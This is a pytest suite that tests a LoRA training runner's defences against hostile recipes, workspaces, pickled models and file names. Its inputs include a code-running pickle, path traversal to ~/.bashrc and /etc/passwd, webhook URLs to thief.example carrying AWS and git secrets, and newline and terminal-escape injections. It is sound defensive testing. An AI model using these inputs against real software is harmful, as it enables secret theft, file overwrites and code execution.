"""Every attack that once worked, each by the commands a person gives; the fixture looks for what it would have left."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import time
from pathlib import Path

import pytest

from kohya_runner.remote.place import Stay


def codes(done):
    return {f["code"] for f in json.loads(done.stdout)["findings"] if f["severity"] == "error"}


def refused(stranger, path, code):
    """All commands that would launch say no, with the same code."""
    plan, shown, dry, launched, _ = stranger.every(path)
    assert code in codes(plan)
    assert code in shown.stdout
    assert [plan.exit_code == 0, dry.exit_code == 0, launched.exit_code == 0] == [False] * 3
    assert not (stranger.folder / "workspace" / "runs").exists()


class Bomb:
    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


CODE = {
    "optimizer": "  optimizer_type: unittest.mock.Mock",
    "scheduler": "  lr_scheduler_type: timeit.timeit\n  lr_scheduler_args: {setup: \"'import os'\"}",
    "network": "  network_module: antigravity",
    "python": "launch: {python: ./python}",
    "python of a base": "extends: ./base.yaml",
    "package": "launch: {packages: [evil==1.0]}",
    "a file in every LoRA": "  metadata_thumbnail: /etc/passwd",
    "package by its address": 'launch: {packages: ["prodigyopt @ https://example.org/x.whl"]}',
    "package of any version": "launch: {packages: [prodigyopt]}",
    "file of deepspeed": "launch: {accelerate: {use_deepspeed: true, deepspeed_config_file: /tmp/x.json}}",
    "folder of logs": "launch: {accelerate: {log_dir: /etc}}",
    "other machine": "launch: {accelerate: {main_process_ip: 10.0.0.1}}",
}


@pytest.mark.parametrize("attack", CODE)
def test_1_and_2_a_recipe_runs_no_code(stranger, attack):
    stranger.script("python")
    (stranger.folder / "base.yaml").write_text("launch: {python: ./python}\n", encoding="utf-8")
    refused(stranger, stranger.recipe(CODE[attack]), "recipe.trust")


@pytest.mark.parametrize("ending", ["/../../../../../home/.bashrc", "/x", "a\\\\..\\\\b"])
def test_4_captions_end_in_no_folder(stranger, ending):
    refused(stranger, stranger.recipe(f'  caption_extension: "{ending}"'), "args.value")


def test_1_modules_of_the_downloaded_folder_are_not_imported(stranger):
    """Python looks for modules where it stands, which is that folder for whoever looks at it."""
    for name in ("kohya_runner", "yaml", "click", "pip", "venv"):
        (stranger.folder / f"{name}.py").write_text(f"open({str(stranger.canary)!r}, 'w')", encoding="utf-8")
    done = stranger.run("launch", stranger.recipe("budget: {max_hours: 1}"), "--practice")
    assert done.exit_code == 0, done.stderr


def test_3_a_strangers_run_ends_rents_and_deletes_nothing_elsewhere(stranger, monkeypatch):
    """``remote.json`` says what is stopped, released and removed on the user's own machines."""
    assert stranger.run("launch", stranger.recipe(), "--practice").exit_code == 0
    for name in ("ssh", "rsync"):
        stranger.script(name)
    monkeypatch.setenv("PATH", f"{stranger.folder}{os.pathsep}{os.environ['PATH']}")
    settings = stranger.home / "config" / "kohya-runner" / "config.yaml"
    settings.parent.mkdir(parents=True)
    settings.write_text("places: {lab: {kind: ssh, host: me@lab}}\n", encoding="utf-8")
    run_dir = stranger.folder / "workspace" / "runs" / "gift" / "001"
    at = ("--workspace", stranger.folder / "workspace")
    for phase in ("renting", "running", "ended", "returned"):
        stay = Stay(
            place="lab", kind="ssh", phase=phase, name="gift", number="001", root="/", ticket={"host": "me@lab"}
        )
        (run_dir / "remote.json").write_text(stay.model_dump_json(), encoding="utf-8")
        for words in (("runs",), ("runs", "--remote"), ("status", "gift"), ("logs", "gift"), ("stop", "gift"),
                      ("watch", "gift", "--once"), ("launch", "recipe.yaml", "--on", "lab")):  # fmt: skip
            stranger.run(*words, *at)


WRITES = {
    "log file": "  console_log_file: ~/.bashrc",
    "log prefix": "  log_with: tensorboard\n  log_prefix: ../../../../home/",
    "tokenizers": "  tokenizer_cache_dir: /etc/tokenizers",
    "offload": "  deepspeed: true\n  offload_param_nvme_path: /etc",
}


@pytest.mark.parametrize("attack", WRITES)
def test_4_a_recipe_writes_nothing_outside_its_workspace(stranger, attack):
    refused(stranger, stranger.recipe(WRITES[attack]), "recipe.trust")


def test_4_no_line_is_smuggled_into_a_log(stranger):
    refused(stranger, stranger.recipe('  optimizer_type: "AdamW\\ncurl thief"'), "args.value")


@pytest.mark.parametrize("name", ["runs", "runs/gift", "runs/gift/.active.guard", "datasets/gift", "cache/huggingface"])
def test_5_links_of_a_downloaded_workspace_lead_nothing_out(stranger, name):
    link = stranger.folder / "workspace" / name
    link.parent.mkdir(parents=True, exist_ok=True)
    target = stranger.home / (".bashrc" if name.endswith(".guard") else "")
    before = sorted(stranger.home.rglob("*"))
    link.symlink_to(target)
    path = stranger.recipe()
    assert "disk.link" in codes(stranger.run("plan", path, "--json"))
    assert stranger.run("launch", path, "--practice").exit_code != 0
    assert [p for p in stranger.home.rglob("*") if p not in before] == []


def test_5_a_workspace_somewhere_else_is_asked_for(stranger):
    path = stranger.recipe()
    path.write_text(path.read_text().replace("./workspace", str(stranger.home / "w")), encoding="utf-8")
    refused(stranger, path, "recipe.trust")
    assert not (stranger.home / "w").exists()


def test_6_links_of_a_dataset_read_no_secret(stranger):
    caption = stranger.folder / "pictures" / "0.txt"
    caption.unlink()
    caption.symlink_to(stranger.home / ".cache" / "huggingface" / "token")
    refused(stranger, stranger.recipe(), "dataset.link")


@pytest.mark.parametrize(
    "name", ["trainer.log", "record.json", "metrics.jsonl", "output", "comparison", "attempts.json"]
)
def test_6_links_of_a_strangers_run_show_and_change_nothing(stranger, name):
    assert stranger.run("launch", stranger.recipe(), "--practice").exit_code == 0
    entry = stranger.folder / "workspace" / "runs" / "gift" / "001" / name
    shutil.rmtree(entry) if entry.is_dir() else entry.unlink(missing_ok=True)
    secrets = stranger.home / ".cache" / "huggingface"
    entry.symlink_to(secrets / "token" if entry.suffix else secrets)
    at = ("--workspace", stranger.folder / "workspace")
    for words in (("runs",), ("status", "gift"), ("logs", "gift"), ("diagnose", "gift"), ("report", "gift"),
                  ("compare", "gift"), ("publish", "gift", "--repo", "a/b", "--dry-run")):  # fmt: skip
        stranger.run(*words, *at)
    assert sorted(path.name for path in secrets.iterdir()) == ["token"]
    entry.unlink()


@pytest.mark.parametrize("part", ["checkpoint", "attempt"])
def test_3_no_file_outside_is_moved_by_a_strangers_record(stranger, part):
    """``launch --resume`` moves and removes what the record and the list of attempts name."""
    path = stranger.recipe("resume: {states: 2}")
    assert stranger.run("launch", path, "--practice").exit_code == 0
    run_dir, out = stranger.folder / "workspace" / "runs" / "gift" / "001", "../../../../../../home/.bashrc"
    record = json.loads((run_dir / "record.json").read_text())
    if part == "checkpoint":
        record["checkpoints"][0]["file"] = out
    else:
        attempt = {"number": 1, "world_size": 1, "steps_per_epoch": 1, "log": out, "queued": 1.0, "from_state": out}
        (run_dir / "attempts.json").write_text(json.dumps({"version": 1, "attempts": [attempt]}))
    (run_dir / "record.json").write_text(json.dumps({**record, "state": "stopped"}))
    stranger.run("launch", path, "--practice", "--resume")
    assert "mine" not in "".join(stranger.said)


def test_7_code_in_a_hub_cache_that_came_along_is_not_run(stranger):
    kept = (
        stranger.folder
        / "workspace"
        / "cache"
        / "huggingface"
        / "hub"
        / "models--a--b"
        / "snapshots"
        / ("0" * 40)
        / "vae"
    )
    kept.mkdir(parents=True)
    (kept / "evil.py").write_text("print()", encoding="utf-8")
    refused(stranger, stranger.recipe(model="a/b"), "model.pickle")


def test_7_pickles_are_not_loaded(stranger):
    file = stranger.folder / "model.ckpt"
    file.write_bytes(pickle.dumps(Bomb(stranger.canary)))
    refused(stranger, stranger.recipe(model="./model.ckpt"), "model.pickle")
    refused(stranger, stranger.recipe("  network_weights: ./model.ckpt"), "model.pickle")
    done = stranger.run("verify", file)
    assert done.exit_code != 0
    assert "was not opened: a pickle can run code" in done.stdout


LOADED = {
    "model of another suffix": ("", "./m.sft"),
    "model behind a link": ("", "./link.safetensors"),
    "file of the Hub": ("", "hf://org/repo/model"),
    "LoRA in capitals": ("  network_weights: ./m.SAFETENSORS", "{random: sd15}"),
    "LoRA of another suffix": ("  base_weights: [./m.sft]", "{random: sd15}"),
    "VAE without a suffix": ("  vae: ./m", "{random: sd15}"),
}


@pytest.mark.parametrize("attack", LOADED)
def test_7_a_pickle_under_another_name_is_one(stranger, attack):
    more, model = LOADED[attack]
    for name in ("m", "m.sft", "m.SAFETENSORS", "m.ckpt"):
        (stranger.folder / name).write_bytes(pickle.dumps(Bomb(stranger.canary)))
    (stranger.folder / "link.safetensors").symlink_to("m.ckpt")
    refused(stranger, stranger.recipe(more, model), "model.pickle")


def test_7_a_model_folder_brings_no_code(stranger):
    folder = stranger.folder / "model"
    folder.mkdir()
    (folder / "model_index.json").write_text(json.dumps({"_class_name": ["mine", "Pipe"]}), encoding="utf-8")
    (folder / "mine.py").write_text(f"open({str(stranger.canary)!r}, 'w')", encoding="utf-8")
    refused(stranger, stranger.recipe(model="./model"), "model.pickle")


@pytest.mark.parametrize(
    "more",
    [
        'finish: {notify: "https://thief.example/{{ env.GIT_WORD }}"}',
        '  training_comment: "{{ env.GIT_WORD }}"',
        '  training_comment: "{{ env.AWS_SECRET_ACCESS_KEY }}"',
    ],
)
def test_8_values_of_the_environment_are_not_read(stranger, more):
    refused(stranger, stranger.recipe(more), "recipe.variable")


def test_8_and_9_a_run_keeps_no_secret_and_its_files_are_private(stranger):
    done = stranger.run("launch", stranger.recipe(), "--practice")
    assert done.exit_code == 0, done.stderr
    run_dir = next((stranger.folder / "workspace" / "runs" / "gift").glob("0*"))
    assert [(run_dir / name).stat().st_mode & 0o777 for name in ("record.json", "plan.json")] == [0o600] * 2


HIDDEN = {
    "send a message to thief.example": "finish: {notify: 'https://thief.example/x'}",
    "publish the picked epoch with a model card to thief/loot on the Hub, private": "finish: {publish: thief/loot}",
    "terminate the pod": "finish: {stop_pod: terminate}",
    "upload to thief/loot on the Hub, public":
        "  huggingface_repo_id: thief/loot\n  huggingface_repo_visibility: public",
    "send its metrics": "  log_with: wandb",
}  # fmt: skip


@pytest.mark.parametrize("said", HIDDEN)
def test_10_consequences_are_told_before_everything_else(stranger, said):
    path = stranger.recipe(HIDDEN[said])
    shown = stranger.run("plan", path).stdout
    assert shown.startswith("this recipe will also:")
    assert said in shown
    refused(stranger, path, "recipe.trust")


def test_10_a_message_is_sent_nowhere_without_consent(stranger):
    refused(stranger, stranger.recipe(f"finish: {{notify: '{stranger.web.url}'}}"), "recipe.trust")


def test_11_names_cannot_drive_the_terminal(stranger):
    name = "\x1b]0;owned\x07\nready: 0 warning(s)\n\u202egnp.txt"
    (stranger.folder / "pictures" / name).write_text("x", encoding="utf-8")
    path = stranger.recipe('"ke\\ey\\u202e": 1')
    for done in stranger.every(path):
        assert "\x1b" not in done.output
        assert "\u202e" not in done.output
        assert "ready: 0 warning(s)" not in done.output.splitlines()


def test_11_a_page_shows_no_reversed_and_no_hidden_text(stranger):
    (stranger.folder / "pictures" / "0.txt").write_text("a \u202egnp \x1b[2Jcat", encoding="utf-8")
    stranger.every(stranger.recipe())
    page = (stranger.folder.parent / "report.html").read_text(encoding="utf-8")
    assert "\\u202egnp" in page
    assert not {"\x1b", "\u202e"} & {*page}


def test_11_a_files_name_writes_no_line_of_a_script(stranger):
    path = stranger.recipe()
    path = path.rename(path.with_name("gift\ntouch canary\n#.yaml"))
    script = stranger.run("export", path, "--format", "sh").stdout
    assert "#.yaml. Change DATA" in script
    assert "touch canary" not in script.splitlines()


def test_14_many_unknown_keys_and_chained_filters_end_soon(stranger):
    begun = time.process_time()
    stranger.run("plan", stranger.recipe("".join(f"key_{n}: 1\n" for n in range(45_000))), "--json")
    chain = "| replace('t', 'tttttttttttttttttttttttttttttttt') " * 40
    assert "recipe.variable" in codes(
        stranger.run("plan", stranger.recipe(f'  training_comment: "{{{{ name {chain}}}}}"'), "--json")
    )
    assert time.process_time() - begun < 6


def test_14_special_files_are_not_waited_for(stranger):
    os.mkfifo(stranger.folder / "pictures" / "p.png")
    (stranger.folder / "pictures" / "k.png").symlink_to("/proc/kmsg")
    os.mkfifo(stranger.folder / "lora.safetensors")
    stranger.every(stranger.recipe())
    assert "named pipe" in stranger.run("verify", stranger.folder / "lora.safetensors").stdout


@pytest.mark.parametrize("where", ["model: {}", "model: {}, x: 1", "extends: {}", "components: {{vae: {}}}",
                                   "samples: {{prompts: {}}}", "compare: {{clip: {}}}"])  # fmt: skip
@pytest.mark.parametrize("file", ["/proc/kmsg", "/dev/zero", "./pipe", "./link.safetensors"])
def test_14_no_key_of_a_recipe_opens_a_special_file(stranger, where, file):
    os.mkfifo(stranger.folder / "pipe")
    (stranger.folder / "link.safetensors").symlink_to("/proc/kmsg")
    path = stranger.recipe()
    text = path.read_text().replace("model: {random: sd15}\n", "")
    key = where.format(file)
    path.write_text(f"{key}\n" + (text if key.startswith("model") else text + "model: {random: sd15}\n"))
    commands = (("plan", "--json"), ("launch", "--practice"), ("dataset", "check"))
    done = [stranger.run(*words, path) for words in commands]
    assert [one.exit_code == 0 for one in done] == [False] * 3


RUN_FILES = ("record.json", "attempts.json", "plan.json", "trainer.log", "metrics.jsonl", "stop.json", "remote.json")


@pytest.mark.parametrize("name", RUN_FILES)
def test_14_no_file_of_a_strangers_run_is_waited_for(stranger, name):
    assert stranger.run("launch", stranger.recipe(), "--practice").exit_code == 0
    run_dir = stranger.folder / "workspace" / "runs" / "gift" / "001"
    (run_dir / name).unlink(missing_ok=True)
    os.mkfifo(run_dir / name)
    at = ("--workspace", stranger.folder / "workspace")
    for words in (("runs",), ("status", "gift"), ("logs", "gift"), ("report", "gift"), ("diagnose", "gift"),
                  ("compare", "gift"), ("publish", "gift", "--repo", "a/b", "--dry-run")):  # fmt: skip
        stranger.run(*words, *at)


def test_15_no_package_of_a_recipes_choice_is_advised(stranger):
    log = stranger.folder / "train.log"
    log.write_text('Traceback (most recent call last):\n  File "train_network.py", line 1, in <module>\n'
                   "ModuleNotFoundError: No module named 'evilpackage'\n", encoding="utf-8")  # fmt: skip
    said = stranger.run("diagnose", log).stdout
    assert "install evilpackage" not in said
    assert "package that has evilpackage" not in said
